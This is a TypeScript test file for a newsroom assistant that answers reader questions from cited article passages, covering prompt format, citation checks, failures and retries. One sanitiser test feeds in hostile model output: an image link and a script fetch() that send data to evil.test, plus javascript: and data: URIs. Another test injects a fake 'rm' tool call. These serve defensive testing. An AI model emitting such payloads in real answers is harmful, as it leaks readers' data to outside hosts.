import { buildServiceRequest } from '@/lib/contract';
import { signIdentity, type Identity } from '@/lib/contract/identity';
import type { ChatChunk } from '@/lib/model/chat/chunk';
import { unsupportedMark } from '@/lib/model/markdown/citations';
import {
  modelAnswerChars,
  modelFirstWordMs,
  modelPauseMs,
  modelTotalMs,
} from '@/lib/newsroom/model/model';
import { lexicons } from '@/lib/newsroom/language/lexicons';
import { noAnswer } from '@/lib/newsroom/assistant/prompt';
import { openStore } from '@/lib/newsroom/store/open-store';
import { sampleEvent } from '../store/sample';
import {
  begin,
  behaviors,
  chunkOf,
  ending,
  says,
  startModelServer,
  type Behavior,
  type ModelServer,
} from '../assistant/model-server';
import {
  answerOf,
  chunksOf,
  createTestClock,
  exceptionsOf,
  newTurnId,
  referencesOf,
  secret,
  start,
  startNewsroom,
} from '../assistant/newsroom';
import { until } from '@/tests/until';
import { eventLoopTurns } from '@/tests/event-loop-turns';

const question = 'How many times was a leap second added?';
const true1 =
  'The most recent leap second came at the end of 2016 and put UTC 37 seconds behind atomic time.';
const en = lexicons.en.phrases;

let server: ModelServer;
let newsroom: Awaited<ReturnType<typeof startNewsroom>>;
let time: ReturnType<typeof createTestClock>;
let devices = 0;
/** Each call has its own browser: nobody may ask that often in a day. */
const someone = () => ({ device: `d-${(devices += 1)}`, guestChat: true });

beforeAll(async () => {
  server = await startModelServer();
  time = createTestClock();
  newsroom = await startNewsroom({
    model: { baseUrl: server.baseUrl, apiKey: 'the key', name: 'some-model' },
    clock: time.clock,
    timer: time.timer,
  });
});
afterAll(async () => {
  await newsroom.close();
  await server.close();
});

const asked = (behavior: Behavior, message = {}) => {
  server.script(behavior);
  return newsroom.chunks({ input: question, ...message }, { who: someone() });
};
/** The number in the prompt of the passage with this beginning. */
const numberOf = (beginning: string) => {
  const prompt = server.requests.at(-1)?.body.messages.at(-1)?.content ?? '';
  const line = prompt.split('\n').find((one) => one.includes(`"passage":"${beginning}`)) ?? '{}';
  return (JSON.parse(line) as { numbers?: number[] }).numbers?.[0] ?? 0;
};
/** Sends sentences, each citing the passage about 2016 by its number in the prompt. */
const cites =
  (say: (n: number) => string): Behavior =>
  (response, request, aborted) =>
    says(say(numberOf('The most recent')))(response, request, aborted);

const outcomeOf = (chunks: readonly ChatChunk[]) =>
  chunks.flatMap((chunk) => (chunk.type === 'outcome' ? [chunk.outcome] : [])).join();
const published = async (turn_id: string, who: Identity) => {
  const authorization = `Bearer ${await signIdentity(who, secret, time.clock())}`;
  const base = 'http://newsroom.invalid';
  return newsroom.fetch(buildServiceRequest('PublishAnswer', { turn_id }, base, { authorization }));
};

describe('the model’s prompt', () => {
  it('contains the question, and passages as data between marks that no article can know', async () => {
    await asked(says(noAnswer));
    const [request] = server.requests;
    expect(request?.path).toBe('/v1/chat/completions');
    expect(request?.authorization).toBe('Bearer the key');
    expect(request?.body).toMatchObject({ model: 'some-model', stream: true });
    expect(request?.body).not.toHaveProperty('tools');
    const [system, user] = request?.body.messages ?? [];
    expect(system).toMatchObject({ role: 'system', content: expect.stringContaining('English') });
    const lines = user?.content.split('\n') ?? [];
    const mark = /^BEGIN ([0-9a-f-]{36})$/.exec(lines[0] ?? '')?.[1] ?? 'none';
    const end = lines.indexOf(`END ${mark}`);
    expect(end).toBeGreaterThan(3);
    for (const line of lines.slice(1, end)) {
      const { heading = '', ...passage } = JSON.parse(line);
      expect(heading).toEqual(expect.any(String));
      expect(passage).toEqual({
        numbers: expect.any(Array),
        source: expect.any(String),
        date: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
        passage: expect.any(String),
      });
    }
    expect(lines.at(-1)).toBe(`Question: ${question}`);
  });

  it('contains the conversation so far, oldest first', async () => {
    const who = someone();
    server.script(cites((n) => `${true1}[${n}]`));
    await newsroom.chunks({ input: question }, { who, session: '5' });
    await newsroom.chunks({ input: 'And what of the clocks then?' }, { who, session: '5' });
    const roles = server.requests.at(-1)?.body.messages.map(({ role }) => role);
    expect(roles).toEqual(['system', 'user', 'assistant', 'user']);
    expect(server.requests.at(-1)?.body.messages[1]?.content).toBe(question);
  });
});

describe('the model’s text', () => {
  it('is shown sentence by sentence with its sources', async () => {
    const chunks = await asked(cites((n) => `${true1}[${n}] ${true1} [${n}].`));
    const n = numberOf('The most recent');
    expect(answerOf(chunks)).toBe(`${true1}[${n}] ${true1}[${n}]`);
    const kinds = chunks.map(({ type }) => type);
    expect(kinds.filter((kind) => kind === 'answer')).toHaveLength(3);
    expect(kinds.indexOf('reference')).toBeLessThan(kinds.indexOf('answer'));
    expect(referencesOf(chunks).find(({ order }) => order === n)?.source).toBe('NIST');
    expect(exceptionsOf(chunks)).toEqual([]);
  });

  it.each<[string, (n: number) => string]>([
    ['no citation', () => true1],
    ['a citation of nothing', () => `${true1}[99]`],
  ])('is flagged if it has %s', async (_, say) => {
    const chunks = await asked(cites(say));
    expect(answerOf(chunks)).toMatch(/\S\[\?\]$/);
    expect(answerOf(chunks)).not.toMatch(/\[\d/);
    expect(unsupportedMark).toBe('[?]');
  });

  it.each<[string, (n: number) => string]>([
    [
      'a number that is in no source',
      (n) => `The most recent leap second came at the end of 2017.[${n}]`,
    ],
    ['another thing', (n) => `Chocolate prices doubled in Belgian supermarkets.[${n}]`],
    ['a denial', (n) => `The most recent leap second never came at the end of 2016.[${n}]`],
  ])('is flagged, next to the passage for comparison, if it has %s', async (_, say) => {
    const chunks = await asked(cites(say));
    expect(answerOf(chunks)).toMatch(/\S\[\d+\]\[\?\]$/);
  });

  it('contains no links, whatever it writes', async () => {
    const evil = [
      `See [the truth](https://evil.test/a).[1]`,
      `![x](https://evil.test/p.png?q=secret) www.evil.test and evil.com/x and me@evil.test.[1]`,
      `<a href="https://evil.test">here</a><script>fetch('//evil.test')</script>[1]`,
      `[ref]: https://evil.test`,
      `javascript:alert(1) data:text/html;base64,AAAA 127.0.0.1:8080/x`,
      `${true1}[1]`,
    ].join('\n\n');
    const chunks = await asked(says(evil, 3));
    expect(answerOf(chunks)).not.toMatch(/evil|:\/\/|www\.|javascript:|data:|<|\]\(|127\.0/);
    expect(answerOf(chunks)).toContain('The most recent leap second came');
  });

  it('has its tool calls and other fields ignored', async () => {
    const chunks = await asked((response) => {
      begin(response);
      response.write(
        'data: {"choices":[{"delta":{"tool_calls":[{"function":{"name":"rm"}}],"role":"assistant"}}]}\n\n',
      );
      response.write('data: {"choices":[]}\n\n: comment\n\n');
      response.write(chunkOf(`${true1}[1]`));
      response.end(ending);
    });
    expect(answerOf(chunks)).toContain('The most recent leap second');
  });

  it('is replaced by a plain sentence of ours if the passages do not answer', async () => {
    const chunks = await asked(says(noAnswer, 2));
    // Above links to related articles.
    expect(chunks).toContainEqual(expect.objectContaining({ result_type: 'inner' }));
    expect(answerOf(chunks)).toBe(en.near);
    expect(referencesOf(chunks)).toEqual([]);
  });

  it('is not requested if nothing was found', async () => {
    const chunks = await asked(says('Anything.'), { input: 'xyzzy plugh' });
    expect(answerOf(chunks)).toBe(en.nothing);
    // At most a translation of the question is requested.
    expect(server.requests.length).toBeLessThanOrEqual(1);
  });
});

describe('a model that fails before its first word', () => {
  it.each<[string, Behavior]>([
    ['429', behaviors.status(429)],
    ['500', behaviors.status(500)],
    ['401', behaviors.status(401)],
    ['wrong JSON', behaviors.wrongJson()],
    ['other JSON', behaviors.otherJson],
    ['a page', behaviors.page],
    ['a redirect', behaviors.redirect],
    ['an end without an answer', behaviors.endsEarly('')],
    ['a closed connection', (response) => response.destroy()],
    [
      'an error in the stream',
      (response) => {
        begin(response);
        response.end('data: {"error":{"message":"overloaded"}}\n\n');
      },
    ],
    [
      'an event without end',
      (response) => {
        begin(response);
        for (let n = 0; n < 20; n += 1) response.write(`data: ${'x'.repeat(10_000)}`);
      },
    ],
    ['nothing to say', says('')],
  ])('through %s is replaced by passages, and this is stated', async (_, behavior) => {
    const chunks = await asked(behavior);
    expect(exceptionsOf(chunks)).toEqual([en.modelAway]);
    expect(answerOf(chunks)).toContain(en.quotes);
    expect(answerOf(chunks)).toMatch(/\[1\]/);
    expect(chunks.some((chunk) => chunk.type === 'answer' && chunk.mark === 'end')).toBe(true);
  });

  it('through silence is given up after a while', async () => {
    server.script(behaviors.silent());
    const running = newsroom.chunks({ input: question }, { who: someone() });
    await until(() => server.requests.length > 0);
    time.advance(modelFirstWordMs - 1);
    time.advance(1);
    expect(exceptionsOf(await running)).toEqual([en.modelAway]);
  });

  it('leaves an answer that can be followed up, shared and asked again', async () => {
    server.script(behaviors.status(500));
    const [who, session, turn_id] = [someone(), '7', newTurnId()];
    await newsroom.chunks({ input: question, turn_id }, { who, session });
    const goesOn = await newsroom.chunks({ input: 'And when?' }, { who, session });
    const alone = await newsroom.chunks({ input: 'And when?' }, { who, session: '8' });
    expect([goesOn, alone].map(outcomeOf)).toEqual(['quoted', 'none']);
    expect((await published(turn_id, who)).status).toBe(200);
    server.script(cites((n) => `${true1}[${n}]`));
    const again = await newsroom.chunks({ input: question, turn_id }, { who, session });
    expect(exceptionsOf(again)).toEqual([]);
  });

  it('with nothing to quote is only reported', async () => {
    server.script(behaviors.status(500));
    const chunks = await newsroom.chunks(
      { input: 'Which vaccine protects against malaria?' },
      { who: someone() },
    );
    expect(exceptionsOf(chunks)).toEqual([en.modelAwayNothing]);
    expect(answerOf(chunks)).toBe('');
  });
});

describe('a model that fails in the middle', () => {
  const begun = `${true1}[2] And then it`;
  const isKept = (chunks: Awaited<ReturnType<typeof asked>>) => {
    expect(answerOf(chunks)).toMatch(/^The most recent leap second came at the end of 2016.*\]$/);
    expect(answerOf(chunks)).not.toContain('And then it');
    expect(exceptionsOf(chunks)).toEqual([en.brokenOff]);
    expect(chunks.some((chunk) => chunk.type === 'answer' && chunk.mark === 'end')).toBe(true);
  };

  it.each<[string, Behavior]>([
    ['a cut connection', behaviors.cutOff(begun)],
    ['an early end', behaviors.endsEarly(begun)],
    ['wrong JSON', behaviors.wrongJson(begun)],
  ])('through %s leaves the text so far, and states that it broke off', async (_, behavior) => {
    isKept(await asked(behavior));
  });

  it('through a filter does the same', async () => {
    isKept(await asked(behaviors.stopped(begun, 'content_filter')));
  });

  it('through its own limit leaves whole sentences, and states that it became too long', async () => {
    const chunks = await asked(behaviors.stopped(begun, 'length'));
    expect(answerOf(chunks)).toMatch(/^The most recent leap second came .*\]$/);
    expect(answerOf(chunks)).not.toContain('And then it');
    expect(exceptionsOf(chunks)).toEqual([en.tooLong]);
  });

  it('through silence does the same', async () => {
    server.script(behaviors.silent(begun));
    const answer = await newsroom.ask({ input: question }, { who: someone() });
    const reader = answer.body?.getReader();
    let wire = '';
    const read = async () => {
      const next = await reader?.read();
      wire += new TextDecoder().decode(next?.value);
      return next?.done === false;
    };
    while (!wire.includes('2016')) await read();
    // The heartbeat, the limit of the whole answer, and that of the next word.
    await until(() => time.waiting() === 3);
    time.advance(modelPauseMs);
    while (await read());
    isKept(chunksOf(wire));
  });

  it('by an endless answer is cut off and disconnected', async () => {
    const chunks = await asked(behaviors.endless(`${true1}[2]`));
    expect(exceptionsOf(chunks)).toEqual([en.tooLong]);
    expect(answerOf(chunks).length).toBeLessThan(2 * modelAnswerChars);
    await server.left();
  });

  it('by sending very slowly is ended by the time limit', async () => {
    const [began, left]: [number, { at?: number }] = [time.clock(), {}];
    server.script(async (response, _, aborted) => {
      begin(response);
      void aborted.then(() => (left.at = time.clock()));
      while (left.at === undefined) {
        response.write(chunkOf(`${true1}[2] `));
        time.advance(modelPauseMs / 2);
        await eventLoopTurns();
      }
    });
    const chunks = await newsroom.chunks({ input: question }, { who: someone() });
    expect(exceptionsOf(chunks)).toHaveLength(1);
    expect((left.at ?? 0) - began).toBeLessThan(2 * modelTotalMs);
  });

  it('may be asked again under the same id, uncounted, until it succeeds', async () => {
    const who = someone();
    const turn_id = newTurnId();
    server.script(
      behaviors.endsEarly(begun),
      cites((n) => `${true1}[${n}]`),
    );
    const first = await newsroom.chunks({ input: question, turn_id }, { who });
    expect(exceptionsOf(first)).toHaveLength(1);
    expect((await published(turn_id, who)).status).toBe(409);
    const second = await newsroom.chunks({ input: question, turn_id }, { who });
    expect(exceptionsOf(second)).toEqual([]);
    const third = await newsroom.chunks({ input: question, turn_id }, { who });
    expect(answerOf(third)).toBe(answerOf(second));
    expect(server.requests).toHaveLength(2);
  });
});

it('a reader who leaves aborts the model’s request at once', async () => {
  server.script(behaviors.silent(`${true1}[2] `));
  const answer = await newsroom.ask({ input: question }, { who: someone() });
  const reader = answer.body?.getReader();
  await reader?.read();
  await until(() => server.requests.length > 0);
  await reader?.cancel();
  await server.left();
  expect(time.waiting()).toBe(0);
});

it('a question finds articles in another language if the model translates it', async () => {
  const store = await openStore({ dataDir: newsroom.folder });
  const text = 'The lighthouse of Port Almond was relit in 1931 after the storm.[1]';
  await store.events.save(
    sampleEvent('e-light', {
      title: [{ lang: 'source', text: 'Port Almond lighthouse' }],
      content: [{ element_type: 'p', text: [{ lang: 'source', text }] }],
      rank_time: start,
      release_time: start,
    }),
  );
  await store.close();
  server.script(
    says('{"en":"When was the lighthouse of Port Almond relit?","zh":"","ph":""}'),
    says('杏仁港灯塔在1931年重新点亮。[1]'),
  );
  // Only a model can confirm a sentence in another language than its source.
  server.agree();
  const chunks = await newsroom.chunks(
    { input: '杏仁港的灯塔是哪一年重新点亮的？' },
    { who: someone(), language: 'ZH' },
  );
  expect(answerOf(chunks)).toBe('杏仁港灯塔在1931年重新点亮。[1]');
  expect(server.requests).toHaveLength(2);
});

describe('of an event from feeds', () => {
  const references = [
    { order: 1, source: 'Almond Post', title: 'Lamp burns again', link: 'https://example.com/a' },
    { order: 2, source: 'Coast Daily', title: 'Keeper honoured', link: 'https://example.com/b' },
  ];
  const asks = { input: 'Who kept the lighthouse of Cape Quarrel?' };
  beforeAll(async () => {
    const store = await openStore({ dataDir: newsroom.folder });
    const text =
      'The lighthouse of Cape Quarrel was relit after the storm.[1] Ines Calder kept the lighthouse of Cape Quarrel for thirty years.[2]';
    await store.events.save(
      sampleEvent('e-quarrel', {
        title: [{ lang: 'source', text: 'Cape Quarrel lighthouse relit' }],
        content: [{ element_type: 'p', text: [{ lang: 'source', text }] }],
        ...{ references, rank_time: start, release_time: start },
      }),
    );
    await store.close();
  });

  it('the model gets the headline of each source beside its passage', async () => {
    await asked(says(noAnswer), asks);
    const prompt = server.requests.at(-1)?.body.messages.at(-1)?.content ?? '';
    const passages = prompt
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line) => JSON.parse(line) as { source: string; title?: string });
    for (const { source, title } of references) {
      expect(passages).toContainEqual(expect.objectContaining({ source, title }));
    }
  });

  it('the list of sources contains only what the answer cites', async () => {
    const chunks = await asked((response, request, aborted) => {
      const n = numberOf('Ines Calder');
      const said = `Ines Calder kept the lighthouse of Cape Quarrel for thirty years.[${n}]`;
      return says(said)(response, request, aborted);
    }, asks);
    const cited = numberOf('Ines Calder');
    const lists = chunks.flatMap((one) => (one.type === 'reference' ? [one.references] : []));
    expect(lists.map((list) => list.map(({ order }) => order))).toEqual([[cited]]);
    expect(lists[0]?.[0]?.link).toBe('https://example.com/b');
  });
});
